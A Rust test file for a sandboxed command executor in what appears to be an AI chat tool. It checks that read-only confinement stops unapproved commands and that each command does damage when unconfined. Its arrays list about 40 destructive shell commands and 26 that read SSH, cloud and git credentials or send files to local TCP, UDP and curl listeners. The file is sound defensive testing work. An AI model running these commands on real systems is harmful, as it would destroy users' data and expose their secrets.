//! Where the judge is wrong: what it lets run unasked does no damage and reads no secret all the same.
//!
//! Each command runs as a chat runs a command that only looks, whatever its sort. Each runs
//! unconfined too, in the same throwaway place, to show that it would have done its deed.

use std::collections::BTreeMap;
use std::ffi::OsString;
use std::fs;
use std::io::Read;
use std::net::{TcpListener, UdpSocket};
use std::os::unix::fs::MetadataExt;
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use co_exec::{
    Caller, Confinement, Environment, ExecSettings, Executor, Launcher, Outcome, Program, Setup,
    Spec,
};

use super::world::World;
use crate::support::{BACKEND, proc};

/// What no command may print or send.
const SECRET: &str = "hunter2-of-this-home";

/// Files of the home that hold it.
const SECRETS: [&str; 14] = [
    ".ssh/id_ed25519",
    ".aws/credentials",
    ".gnupg/key",
    ".kube/config",
    ".netrc",
    ".docker/config.json",
    ".git-credentials",
    ".npmrc",
    ".pgpass",
    ".bash_history",
    ".mozilla/profile",
    ".config/gh/hosts.yml",
    ".local/state/co/chats",
    "other-project/.env",
];

/// What destroys or changes something.
const DESTROYS: [&str; 40] = [
    "rm -rf src",
    "rm -rf .git",
    "rm -f ~/notes",
    "find . -name '*.rs' -delete",
    "find src -type f -exec rm {} +",
    "git ls-files | xargs rm",
    "git reset -q --hard",
    "git clean -fdxq",
    "git checkout -q -- .",
    "git stash -q",
    "git branch -qD other",
    "git commit -qam x",
    "git config user.email evil@example.org",
    "git config --global core.pager evil",
    "git update-ref -d refs/heads/other",
    "git gc -q --prune=now && rm .git/HEAD",
    "git push -q ../other/bare.git HEAD:main",
    "git -c alias.x='!rm -r src' x",
    "git archive -o ../other/x.tar HEAD",
    "sed -i s/one/1/ a.txt",
    "sed -n 'w stolen' a.txt",
    "awk 'BEGIN { print \"x\" > \"a.txt\" }'",
    "sort -o a.txt b.txt",
    "tee a.txt < b.txt",
    "> a.txt",
    "echo evil >> ~/.bashrc",
    "truncate -s 0 a.txt",
    "dd if=/dev/zero of=a.txt count=1 status=none",
    "cp b.txt a.txt",
    "mv a.txt moved",
    "ln -sf /dev/null a.txt",
    "mkdir new",
    "touch -d 2001-01-01 a.txt",
    "chmod 777 a.txt",
    "chmod -R 700 ../other",
    "shred -u a.txt",
    "tar -cf - src | tar -xf - -C ../other",
    "echo 'rm -rf ~' > .git/hooks/pre-commit",
    "python3 -c 'import shutil; shutil.rmtree(\"src\")'",
    "kill -9 {victim}",
];

/// What tells somebody else's secret, or sends the workspace away.
const LEAKS: [&str; 26] = [
    "cat ~/.ssh/id_ed25519",
    "cat ../home/.aws/credentials",
    "cat link-to-key",
    "cat /proc/self/root$HOME/.ssh/id_ed25519",
    "cat /proc/self/cwd/../home/.netrc",
    "tr '\\0' ' ' < /proc/{victim}/environ",
    "cat /proc/{victim}/cwd/.netrc",
    "grep -r hunter2 ~",
    "find ~ -name id_ed25519 -exec cat {} +",
    "head -c 100 ~/.netrc",
    "tar -cf - -C ~ .gnupg | tr -d '\\0'",
    "git diff --no-index /dev/null ~/.git-credentials",
    "git -C ../home/other-project grep --no-index hunter2",
    "GIT_EXTERNAL_DIFF='cat ../home/.npmrc; :' git diff",
    "git -c alias.x='!cat ~/.kube/config' x",
    "python3 -c 'import os; print(open(os.path.expanduser(\"~/.kube/config\")).read())'",
    "base64 ~/.docker/config.json | base64 -d",
    "awk 1 ~/.npmrc",
    "echo \"$(<~/.pgpass)\"",
    "cat ~/.local/state/co/chats",
    "ln ~/.bash_history h && cat h",
    "cp -r ~/.mozilla m && cat m/profile",
    "cat a.txt > /dev/tcp/127.0.0.1/{tcp}",
    "cat a.txt > /dev/udp/127.0.0.1/{udp}",
    "curl -s --max-time 5 --data-binary @a.txt http://127.0.0.1:{tcp}/",
    "python3 -c 'import socket; socket.socket(socket.AF_UNIX).connect(\"{unix}\")'",
];

/// A workspace, a home with secrets, who listens, and a process that could be ended.
struct Place {
    world: World,
    root: PathBuf,
    /// As it was made, to begin each command anew.
    pristine: PathBuf,
    executor: Executor,
    /// The limits that a chat sets for a command that nobody approved.
    env: Vec<(String, String)>,
    tcp: TcpListener,
    udp: UdpSocket,
    unix: UnixListener,
    victim: Child,
}

impl Place {
    fn new() -> Self {
        let world = World::new();
        let root = world.workspace.parent().unwrap().to_owned();
        furnish(&world);
        let pristine = root.join("pristine");
        fs::create_dir(&pristine).unwrap();
        copy(&root, &pristine);
        let run = root.join("run");
        fs::create_dir(&run).unwrap();
        let quiet = |listener: TcpListener| listener.set_nonblocking(true).map(|()| listener);
        let unix = UnixListener::bind(run.join("docker.sock")).unwrap();
        unix.set_nonblocking(true).unwrap();
        let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
        udp.set_nonblocking(true).unwrap();
        Self {
            executor: executor(&world, &run),
            env: Vec::new(),
            victim: victim(&world),
            tcp: TcpListener::bind("127.0.0.1:0").and_then(quiet).unwrap(),
            udp,
            unix,
            pristine,
            root,
            world,
        }
    }

    /// Puts everything back.
    fn restore(&mut self) {
        for part in PARTS {
            fs::remove_dir_all(self.root.join(part)).unwrap();
        }
        copy(&self.pristine, &self.root);
        self.end_victim();
        // In the home that is there now.
        self.victim = victim(&self.world);
    }

    async fn run(&self, command: &str, confinement: Confinement) -> Outcome {
        let port = |address: std::io::Result<std::net::SocketAddr>| address.unwrap().port();
        let command = command
            .replace("{victim}", &self.victim.id().to_string())
            .replace("{tcp}", &port(self.tcp.local_addr()).to_string())
            .replace("{udp}", &port(self.udp.local_addr()).to_string())
            .replace(
                "{unix}",
                &self.root.join("run/docker.sock").to_string_lossy(),
            );
        let spec = Spec {
            program: Program::Shell(command),
            cwd: self.world.workspace.clone(),
            caller: Caller::Agent,
            stdin: None,
            timeout: Duration::from_secs(60),
            confinement,
            environment: Environment::default(),
            extra_env: self.env.clone(),
        };
        self.executor.start(spec).await.unwrap().outcome().await
    }

    /// What a command did that it must not; none where it did no harm.
    fn harm(&mut self, command: &str, before: &Files, outcome: &Outcome) -> Option<String> {
        if outcome.output.contains(SECRET) {
            return Some("it told a secret".to_owned());
        }
        let mut connections = Vec::new();
        while let Ok((mut stream, _)) = self.tcp.accept() {
            let mut heard = Vec::new();
            let _whole = stream
                .set_nonblocking(true)
                .map(|()| stream.read_to_end(&mut heard));
            connections.push(heard);
        }
        let datagram = self.udp.recv(&mut [0; 64]).is_ok();
        if !connections.is_empty() || datagram || self.unix.accept().is_ok() {
            return Some("it reached somebody else".to_owned());
        }
        if self.victim_ended(outcome.ok() && command.starts_with("kill")) {
            return Some("it ended a process".to_owned());
        }
        let after = self.files();
        let changed = before
            .iter()
            .find(|(path, was)| after.get(*path) != Some(was));
        let made = after.keys().find(|path| !before.contains_key(*path));
        let path = changed.map(|(path, _)| path).or(made)?;
        Some(format!("{} is not as it was", path.display()))
    }

    /// Whether the victim has ended; one that was sent a signal is given time to.
    fn victim_ended(&mut self, hit: bool) -> bool {
        let end = Instant::now() + Duration::from_secs(if hit { 10 } else { 0 });
        loop {
            let ended = self.victim.try_wait().unwrap().is_some();
            if ended || Instant::now() >= end {
                return ended;
            }
            std::thread::sleep(Duration::from_millis(5));
        }
    }

    fn end_victim(&mut self) {
        let _ = self.victim.kill();
        let _ = self.victim.wait();
    }

    /// Everything about every file that a command could change.
    fn files(&self) -> Files {
        let mut found = Files::new();
        let mut todo: Vec<_> = PARTS.iter().map(|part| self.root.join(part)).collect();
        while let Some(path) = todo.pop() {
            let meta = path.symlink_metadata().unwrap();
            let text = match meta.is_file() {
                true => fs::read(&path).unwrap(),
                false => Vec::new(),
            };
            if meta.is_dir() {
                todo.extend(
                    fs::read_dir(&path)
                        .unwrap()
                        .map(|entry| entry.unwrap().path()),
                );
            }
            let about = (meta.mode(), meta.nlink(), meta.ctime(), meta.ctime_nsec());
            found.insert(path, (about, text));
        }
        found
    }
}

impl Drop for Place {
    fn drop(&mut self) {
        self.end_victim();
    }
}

type Files = BTreeMap<PathBuf, ((u32, u64, i64, i64), Vec<u8>)>;

/// The directories that a command could harm.
const PARTS: [&str; 3] = ["work", "home", "other"];

fn furnish(world: &World) {
    for name in SECRETS {
        let path = world.home.join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, format!("{SECRET}\n")).unwrap();
    }
    fs::write(world.home.join("notes"), "mine\n").unwrap();
    let config = "[user]\n\tname = A\n\temail = a@example.org\n[safe]\n\tdirectory = *\n";
    fs::write(world.home.join(".gitconfig"), config).unwrap();
    let link = world.workspace.join("link-to-key");
    std::os::unix::fs::symlink(world.home.join(".ssh/id_ed25519"), link).unwrap();
    world.git(&["branch", "other"]);
    world.git(&["init", "-q", "--bare", "../other/bare.git"]);
    fs::write(world.workspace.join("a.txt"), "one\nchanged\n").unwrap();
}

/// Copies what a command could harm, times and modes too.
fn copy(from: &Path, to: &Path) {
    let mut cp = Command::new("cp");
    cp.arg("-a").args(PARTS.map(|part| from.join(part))).arg(to);
    assert!(cp.status().unwrap().success());
}

fn executor(world: &World, run: &Path) -> Executor {
    let own = vec![world.home.join(".local/state/co")];
    let launcher = Launcher::new(BACKEND.into(), world.home.clone(), own);
    let env = [
        ("PATH", "/usr/bin:/bin".into()),
        ("HOME", world.home.clone().into_os_string()),
        ("LANG", "C.UTF-8".into()),
    ];
    let setup = Setup {
        launcher: Some(launcher),
        env: env
            .map(|(name, value)| (OsString::from(name), value))
            .into(),
        ..Setup::new(ExecSettings::new(run.join("spill")))
    };
    Executor::new(setup).unwrap()
}

fn victim(world: &World) -> Child {
    let mut sleep = Command::new("sleep");
    sleep.arg("300").env("KEY", SECRET).current_dir(&world.home);
    let sleep = sleep
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    // Until it has become `sleep`, its variables are not what they will be.
    let environ = format!("/proc/{}/environ", sleep.id());
    proc::wait_until(Duration::from_secs(60), "the victim", || {
        let environ = fs::read(&environ).ok()?;
        String::from_utf8_lossy(&environ)
            .contains(SECRET)
            .then_some(())
    });
    sleep
}

fn all() -> impl Iterator<Item = &'static str> {
    DESTROYS.into_iter().chain(LEAKS)
}

#[tokio::test]
async fn what_is_let_through_by_mistake_does_no_harm() {
    let mut place = Place::new();
    let level = Confinement::ReadOnly {
        workspace: place.world.workspace.clone(),
    };
    let before = place.files();
    let mut wrong = Vec::new();
    for command in all() {
        let outcome = place.run(command, level.clone()).await;
        assert_eq!(outcome.level, "read-only", "{command}");
        if let Some(harm) = place.harm(command, &before, &outcome) {
            wrong.push(format!("{command}: {harm}\n{}", outcome.output));
            place.restore();
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    place.executor.shutdown().await;
}

#[tokio::test]
async fn unconfined_each_of_them_does_its_deed() {
    let mut place = Place::new();
    assert!(all().count() >= 50);
    let mut idle = Vec::new();
    for command in all() {
        place.restore();
        let before = place.files();
        let outcome = place.run(command, Confinement::Plain).await;
        if place.harm(command, &before, &outcome).is_none() {
            idle.push(format!("{command}\n{}", outcome.output));
        }
    }
    assert!(idle.is_empty(), "these do nothing: {}", idle.join("\n"));
    place.executor.shutdown().await;
}
